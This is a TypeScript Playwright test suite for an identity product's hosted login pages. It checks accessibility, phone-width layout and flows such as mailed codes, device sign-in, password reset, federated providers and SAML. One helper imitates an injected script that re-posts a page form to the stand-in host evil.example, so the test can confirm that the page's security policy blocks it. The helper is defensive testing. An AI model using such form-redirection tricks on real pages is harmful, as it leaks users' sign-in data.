import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { AxeBuilder } from '@axe-core/playwright'
import { type NameServer, openNameServer } from '@doorward/http/test/name-server'
import { pageNames } from '@doorward/login/pages/page-names'
import type { Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { openPage, picture } from './browser.ts'
import { drawnOf } from './drawn-screens.ts'
import { type ForeignProvider, openForeignProvider } from './foreign-provider.ts'
import { callApi, openStage, owner, type Stage } from './open-stage.ts'
import { ServiceClientTokenProvider } from './published-client.ts'
import { signInByCode } from './sign-in-by-code.ts'

/** Every hosted page that somebody comes to on the way in and in his own account, as its reader's browser shows it. */
let stage: Stage
let globex: ForeignProvider
let names: NameServer
/** The same, of the owner as a person. */
let asOwner: Stage
const stepMs = 90_000
/** Where the application is answered; the tests answer in its place. */
const home = 'https://shop.example.com/back'
const wiki = 'https://wiki.example.com/'
/** Known here, and to the provider. */
const ann = 'ann@initech.example'
const folder = mkdtempSync(join(tmpdir(), 'doorward-pages-'))
beforeAll(async () => {
  const lent = join(folder, 'identities.json')
  writeFileSync(lent, JSON.stringify({ google: { clientId: 'operator', clientSecret: 'a secret of the operator' } }))
  names = await openNameServer()
  globex = await openForeignProvider({ sub: 'ann-1184', email: ann, email_verified: true })
  stage = await openStage({
    DOORWARD_OUTBOUND_ALLOW: '127.0.0.1',
    DOORWARD_DNS_SERVER: names.address,
    DOORWARD_SHARED_IDENTITIES: lent,
  })
  await callApi(stage, 'POST', '/v1/applications', {
    applicationId: 'app_shop',
    name: 'Shop',
    redirectUrls: [home],
    deviceGrant: true,
  })
  const strict = { applicationId: 'app_vault', name: 'Vault', redirectUrls: [home], secondFactor: 'REQUIRED' }
  await callApi(stage, 'POST', '/v1/applications', strict)
  const saml = { entityId: 'urn:wiki', assertionConsumerServiceUrl: `${wiki}acs`, singleLogoutServiceUrl: `${wiki}slo` }
  const byForm = { applicationId: 'app_wiki', name: 'Wiki', saml: { ...saml, allowIdpInitiated: true } }
  await callApi(stage, 'POST', '/v1/applications', byForm)
  await connect()
  await signInByCode(stage.page, stage.server, owner)
  const asked = stage.page.waitForRequest((request) => request.headers().authorization !== undefined)
  await stage.page.reload()
  const accessKey = (await asked).headers().authorization?.replace('Bearer ', '') ?? ''
  asOwner = { ...stage, facts: { ...stage.facts, accessKey } }
}, stepMs)
afterAll(async () => {
  await stage?.close()
  await globex?.close()
  await names?.close()
  rmSync(folder, { recursive: true })
})

/** Has people come by a provider, by the one of their company's domain, by a shared identity, and by a client's word. */
async function connect(): Promise<void> {
  const { clientId } = stage.facts
  const secret = { clientId: 'doorward', clientSecret: 'a secret of the provider' }
  const at = (id: string, body: object) => callApi(stage, 'PUT', `/v1/connections/${id}`, body)
  const linkingConfiguration = { type: 'AUTOMATIC' }
  await at('con_globex', { ...secret, issuerUrl: globex.issuer, data: { name: 'Globex' }, linkingConfiguration })
  await at('con_initrode', { ...secret, issuerUrl: globex.issuer, data: { name: 'Initrode' } })
  const google = { issuerUrl: 'https://accounts.google.com', tokenUrl: 'https://oauth2.googleapis.com/token' }
  await at('con_google', { clientId: 'shared-development-identity', ...google, data: { name: 'Google' } })
  const domain = 'initrode.test'
  const tenant = { tenantId: 'initrode', data: { name: 'Initrode' }, domains: [{ domain }] }
  await callApi(stage, 'POST', '/v1/tenants', { ...tenant, connection: { connectionId: 'con_initrode' } })
  const begun = await callApi(stage, 'POST', '/v1/domain-verifications', { domain })
  const { recordName, value } = begun.validation as unknown as { recordName: string; value: string } // as the contract says
  await names.serve({ [recordName]: [value] })
  await callApi(stage, 'PATCH', `/v1/domain-verifications/${domain}`)
  const options = { grantTokenGeneration: true, authorizationUrl: `${wiki}sign-in` }
  await callApi(stage, 'PUT', `/v1/clients/${clientId}`, { name: 'Sign-in', options })
}

/** The pages that were looked at, by the language that they were in. */
const looked = new Map<string, Set<string>>()

/** Nothing is wrong with a page for who can't see it, and nothing is wider than a phone. */
async function look(page: Page, name: string): Promise<void> {
  const [language, which] = await page.evaluate(() => [
    document.documentElement.lang,
    document.querySelector('main')?.dataset.page ?? '',
  ])
  looked.set(language, (looked.get(language) ?? new Set()).add(which))
  const faults = (await new AxeBuilder({ page }).setLegacyMode().analyze()).violations // no frames: nothing is to be put together in a page beside
  expect(
    faults.map(({ id, nodes }) => `${name}: ${id} ${nodes[0]?.html}`),
    name,
  ).toEqual([])
  const over = await page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth)
  expect(over, `${name} is wider than its window`).toBeLessThanOrEqual(0)
  await picture(page, `hosted-${name}`)
}

/** The code that a letter has in whatever language: two groups of digits in its subject or text. */
function digitsIn(mail: string): string {
  const [, first, second] = /\b(\d{4})[ _](\d{4})\b/.exec(mail.slice(mail.indexOf('Subject:'))) ?? []
  if (!first || !second) throw new Error('no code in this mail')
  return first + second
}

/** The address that a letter about a new password leads to. */
function linkIn(mail: string): string {
  const text = mail.replace(/=\r?\n/g, '').replaceAll('=3D', '=') // quoted-printable (RFC 2045 §6.7)
  const [link] = /http\S+\/new-password\?token=[\w-]+/.exec(text) ?? []
  if (!link) throw new Error(`no link in this mail: ${text}`)
  return link
}

/** Gives a browser an authenticator that its person touches whenever it is asked. */
async function giveAuthenticator(page: Page): Promise<void> {
  const devices = await page.context().newCDPSession(page)
  await devices.send('WebAuthn.enable')
  const options = { protocol: 'ctap2', transport: 'usb', hasUserVerification: true, isUserVerified: true } as const
  await devices.send('WebAuthn.addVirtualAuthenticator', { options: { ...options, hasResidentKey: false } })
}

/** Answers the pages' first step by the code that is mailed. */
async function signInByMail(page: Page, email: string): Promise<void> {
  const mailNumber = stage.server.mailsSent() + 1
  await page.locator('input[name="email"]').fill(email)
  await page.locator('button[name="way"][value="code"]').click()
  await page.locator('input[name="code"]').fill(digitsIn(await stage.server.mail(mailNumber)))
  await page.locator('button.main').click()
}

/** What a device is told when it asks to be signed in. */
async function newDevice(): Promise<{ user_code: string }> {
  const answer = await fetch(`${stage.server.apiUrl}/api/oauth/device`, {
    method: 'POST',
    body: new URLSearchParams({ client_id: 'app_shop', scope: 'openid' }),
  })
  return (await answer.json()) as { user_code: string } // RFC 8628 §3.2
}

/** A sign-in to the application that asks who it is, and is answered by form. */
function signInAddress(more: Record<string, string>): string {
  const asked = new URLSearchParams({
    ...{ client_id: 'app_shop', redirect_uri: home, response_type: 'code', scope: 'openid', state: 's1', nonce: 'n1' },
    ...{ code_challenge: 'c'.repeat(43), code_challenge_method: 'S256', ...more },
  })
  return `${stage.server.apiUrl}/?${asked}`
}

/** Has a form of the page sent somewhere else, as a script that was slipped in would; what the page's own policy says to it. */
const sendElsewhere = (page: Page) =>
  page.evaluate(() => {
    const told = new Promise<string>((resolve) =>
      document.addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective)),
    )
    const form = document.querySelector('form')?.cloneNode(true) as HTMLFormElement // there is one on the page
    form.action = 'https://evil.example/'
    document.body.append(form)
    form.submit()
    return told
  })

const heading = (page: Page) => page.getByRole('heading', { level: 1 }).waitFor()

const readers = [
  ['en', 'light', 'ltr'],
  ['de', 'dark', 'ltr'],
  ['ar-XB', 'light', 'rtl'],
] as const
describe.each(drawnOf(readers, 1 / 3))('LGN-01 the hosted pages in %s, %s', (locale, colorScheme, direction) => {
  const at = (name: string) => `${locale}-${colorScheme}-${name}`
  /** Somebody with a phone, whose applications take whatever they are sent. */
  async function visitor() {
    const opened = await openPage(stage.browser, { locale, colorScheme, viewport: { width: 400, height: 800 } })
    await opened.page.route('https://*.example.com/**', (route) =>
      route.request().url().startsWith(home)
        ? route.fulfill({ contentType: 'text/html', body: '<!doctype html><title>Shop</title>' })
        : route.fulfill({ status: 204 }),
    )
    return opened
  }

  it(
    'can be read and used by everybody, on a phone too',
    async () => {
      const { server } = stage
      const { page, problems } = await visitor()
      const email = `sam-${locale.toLowerCase()}-${colorScheme}@example.com`
      await page.goto(`${server.apiUrl}/settings`)
      await heading(page)
      expect(await page.locator('html').getAttribute('dir')).toBe(direction)
      await look(page, at('sign-in'))
      await page.locator('a[href$="/forgotten"]').click()
      await heading(page)
      await look(page, at('forgotten'))
      await page.goBack()
      await page.locator('a[href$="/sign-up"]').click()
      await heading(page)
      await look(page, at('sign-up'))
      await page.goBack()
      const mailNumber = server.mailsSent() + 1
      await page.locator('input[name="email"]').fill(email)
      await page.locator('button[name="way"][value="code"]').click()
      await page.locator('input[name="code"]').waitFor()
      await look(page, at('code'))
      await page.locator('input[name="code"]').fill('0000 0000')
      await page.locator('button.main').click()
      await page.locator('[role="alert"], [aria-invalid="true"]').first().waitFor()
      await look(page, at('wrong-code'))
      await page.locator('input[name="code"]').fill(digitsIn(await server.mail(mailNumber)))
      await page.locator('button.main').click()
      await page.waitForURL('**/settings**')
      const own = [
        '',
        '/email',
        '/sessions/end-all',
        '/factors',
        '/factors/app',
        '/factors/passkey',
        '/factors/codes/new',
      ]
      const others = [`/login/${'x'.repeat(43)}`, '/nothing-here', '/?client_id=app_none', '/api/oauth/logout']
      for (const path of [...own.map((each) => `/settings${each}`), ...others]) {
        await page.goto(server.apiUrl + path)
        await heading(page)
        await look(page, at(path.replaceAll('/', '-').slice(0, 40)))
      }
      await giveAuthenticator(page)
      await page.goto(`${server.apiUrl}/settings/factors/passkey`)
      await page.locator('button.main').click()
      await page.locator('ul.codes').waitFor()
      await look(page, at('recovery-codes'))
      await page.context().clearCookies()
      await page.goto(`${server.apiUrl}/settings`)
      await signInByMail(page, email)
      await page.waitForURL('**/second**')
      await heading(page)
      await look(page, at('second-step'))
      await page.locator('a[href$="/second/recovery"]').click()
      await heading(page)
      await look(page, at('recovery'))
      expect(problems.filter((problem) => !/status of (400|404)/.test(problem))).toEqual([])
      await page.context().close()
    },
    stepMs,
  )

  it(
    'LGN-06 those of devices, of choosing a person and of an answer by form too; that goes where it may and nowhere else',
    async () => {
      const { server } = stage
      const { page, problems } = await openPage(stage.browser, {
        locale,
        colorScheme,
        viewport: { width: 400, height: 800 },
      })
      const email = `eva-${locale.toLowerCase()}-${colorScheme}@example.com`
      const received: string[] = []
      let stays = false
      await page.route('https://*.example*/**', (route) => {
        const asked = route.request()
        received.push(`${asked.method()} ${asked.url()}`)
        if (stays || !asked.url().startsWith(home)) return route.fulfill({ status: 204 })
        const state = new URLSearchParams(asked.postData() ?? '').get('state')
        return route.fulfill({ contentType: 'text/html', body: `<!doctype html><title>Shop</title><h1>${state}</h1>` })
      })
      await page.goto(signInAddress({}))
      await signInByMail(page, email)
      await page.waitForURL(`${home}?**`)
      const { user_code } = await newDevice()
      await page.goto(`${server.apiUrl}/device`)
      await heading(page)
      expect(await page.locator('html').getAttribute('dir')).toBe(direction)
      await look(page, at('device'))
      await page.locator('input[name="user_code"]').fill('BBBB-BBBB')
      await page.locator('button.main').click()
      await page.locator('[aria-invalid="true"]').waitFor()
      await look(page, at('device-wrong'))
      await page.locator('input[name="user_code"]').fill(user_code)
      await page.locator('button.main').click()
      await page.locator('button[name="answer"][value="yes"]').waitFor()
      await look(page, at('device-ask'))
      await page.locator('button[name="answer"][value="yes"]').click()
      await page.locator('button[name="answer"]').waitFor({ state: 'detached' })
      await heading(page)
      await look(page, at('device-done'))

      received.length = 0
      stays = true
      await page.goto(signInAddress({ prompt: 'select_account', response_mode: 'form_post' }))
      await page.locator('button[name="session"]').waitFor()
      await look(page, at('choose'))
      await page.locator('button[name="session"]').first().click()
      await expect.poll(() => received).toEqual([`POST ${home}`]) // by itself
      await look(page, at('answer-by-form'))
      expect(await sendElsewhere(page)).toBe('form-action')
      expect(received).toHaveLength(1)
      stays = false
      await page.goto(signInAddress({ prompt: 'none', response_mode: 'form_post' })).catch(() => undefined) // the page leaves
      await page.waitForURL(home)
      expect(await page.getByRole('heading').textContent()).toBe('s1')
      await page.context().clearCookies()
      await page.goto(signInAddress({ client_id: 'app_vault' }))
      await signInByMail(page, email)
      await page.waitForURL('**/second/new')
      await heading(page)
      await look(page, at('first-factor'))
      expect(problems.filter((problem) => !/status of 400|evil\.example/.test(problem))).toEqual([])
      await page.context().close()
    },
    stepMs,
  )

  it(
    'LGN-01 those of a new password too',
    async () => {
      const { server } = stage
      const { page, problems } = await visitor()
      const email = `pat-${at('')}@example.com`.toLowerCase()
      await page.goto(`${server.apiUrl}/settings`)
      await signInByMail(page, email)
      await page.waitForURL('**/settings**')
      await page.context().clearCookies()
      await page.goto(`${server.apiUrl}/settings`)
      await page.locator('a[href$="/forgotten"]').click()
      await page.locator('input[name="email"]').fill(email)
      const mailNumber = server.mailsSent() + 1
      await page.locator('button.main').click()
      await page.locator('main[data-page="linkSent"]').waitFor()
      await look(page, at('link-sent'))
      const link = linkIn(await server.mail(mailNumber))
      await page.goto(link)
      await page.locator('input[name="password"]').fill('short')
      await page.locator('button.main').click()
      await page.locator('[aria-invalid="true"]').waitFor()
      await look(page, at('new-password'))
      await page.locator('input[name="password"]').fill('seven green umbrellas at noon')
      await page.locator('button.main').click()
      await page.locator('main[data-page="notice"]').waitFor()
      await look(page, at('password-set'))
      await page.goto(link)
      await look(page, at('link-gone'))
      expect(problems.filter((problem) => !/status of 400/.test(problem))).toEqual([])
      await page.context().close()
    },
    stepMs,
  )

  it(
    'LGN-08 those of providers and of companies too, and what is said where nobody came of it',
    async () => {
      const { server } = stage
      const { page, problems } = await visitor()
      await page.goto(server.portalUrl)
      await page.locator('a[href$="/sso"]').click()
      await page.locator('input[name="domain"]').fill('nobody.example')
      await look(page, at('sso'))
      await page.locator('button.main').click()
      await page.locator('[aria-invalid="true"]').waitFor()
      await look(page, at('sso-unknown'))

      await page.goto(signInAddress({}))
      await signInByMail(page, ann)
      await page.waitForURL(`${home}?**`)
      await page.context().clearCookies()
      await page.goto(signInAddress({}))
      await page.locator('a[href*="/with/con_globex"]').click()
      await page.getByRole('link', { name: 'Refuse' }).click()
      await page.locator('[role="alert"]').waitFor()
      await look(page, at('declined'))
      await page.locator('a[href*="/with/con_google"]').click()
      await page.locator('main[data-page="sharedIdentity"]').waitFor()
      await look(page, at('shared-identity'))
      await page.goBack()
      await page.locator('a[href*="/with/con_globex"]').click()
      await page.getByRole('link', { name: 'Sign in at Globex' }).click()
      await page.locator('main[data-page="known"]').waitFor()
      await look(page, at('known'))

      await page.route('**/with/con_initrode**', (route) => route.fulfill({ status: 204 }))
      await page.goto(signInAddress({}))
      await page.locator('input[name="email"]').fill('hank@initrode.test')
      await page.locator('button[name="way"][value="code"]').click()
      await page.locator('main[data-page="onward"]').waitFor()
      await look(page, at('onward'))
      expect(problems).toEqual([])
      await page.context().close()
    },
    stepMs,
  )

  it(
    'LGN-09 those of an application that takes SAML too, by which people come and go',
    async () => {
      const { page, problems } = await visitor()
      const { accountUrl } = stage.facts
      await page.goto(`${accountUrl}/api/authentication/saml/app_wiki/start`)
      await signInByMail(page, `wanda-${at('')}@example.com`)
      await page.locator('input[name="SAMLResponse"]').waitFor({ state: 'attached' })
      await look(page, at('saml-answer'))
      await page.goto(`${accountUrl}/logout`)
      await look(page, at('sign-out'))
      await page.locator('button.main').click()
      await page.locator('main[data-page="samlFarewell"]').waitFor()
      await look(page, at('saml-farewell'))
      expect(problems).toEqual([])
      await page.context().close()
    },
    stepMs,
  )

  it(
    'LGN-05 those of tests too, of people and of connections, and of a sign-in that began elsewhere',
    async () => {
      const { page, problems } = await visitor()
      const { accountUrl, apiUrl, clientId, accessKey = '' } = stage.facts
      const asked = {
        connectionId: clientId,
        applicationId: 'app_shop',
        redirectUrl: home,
        codeChallenge: 'c'.repeat(43),
      }
      const { authenticationUrl = '' } = await callApi(stage, 'POST', '/api/authentication', asked)
      const { searchParams } = new URL(authenticationUrl)
      const [state = '', backTo = ''] = ['state', 'redirect_uri'].map((name) => searchParams.get(name) ?? '')
      const client = new ServiceClientTokenProvider(accessKey, apiUrl)
      await page.goto(await client.generateUserLoginUrl(backTo, state, clientId, 'user_of_the_client'))
      await look(page, at('confirm'))

      const path = '/v1/applications/app_shop/users/user_of_the_client/delegation'
      const { authenticationUrl: test = '' } = await callApi(asOwner, 'POST', path)
      await page.goto(test)
      await look(page, at('ask-test'))
      await page.locator('button.main').click()
      await page.waitForURL(`${home}**`)
      await page.goto(`${accountUrl}/settings`)
      await page.locator('p.test').waitFor()
      await look(page, at('in-test'))
      await page.goto(`${accountUrl}/logout`)
      await look(page, at('end-test'))
      await page.locator('button.main').click()

      for (const [answer, name] of [
        ['Sign in at Globex', 'connection-passed'],
        ['Refuse', 'connection-failed'],
      ] as const) {
        const { testUrl = '' } = await callApi(stage, 'POST', '/v1/connections/con_globex/tests')
        await page.goto(testUrl)
        if (name === 'connection-passed') await look(page, at('ask-connection-test'))
        await page.locator('a.button').click()
        await page.getByRole('link', { name: answer }).click()
        await page.locator('main[data-page="notice"]').waitFor()
        await look(page, at(name))
      }
      expect(problems).toEqual([])
      await page.context().close()
    },
    stepMs,
  )

  it('LGN-01 and there is no page that nobody looked at', () => {
    expect(pageNames.filter((name) => !looked.get(locale)?.has(name))).toEqual([])
  })
})
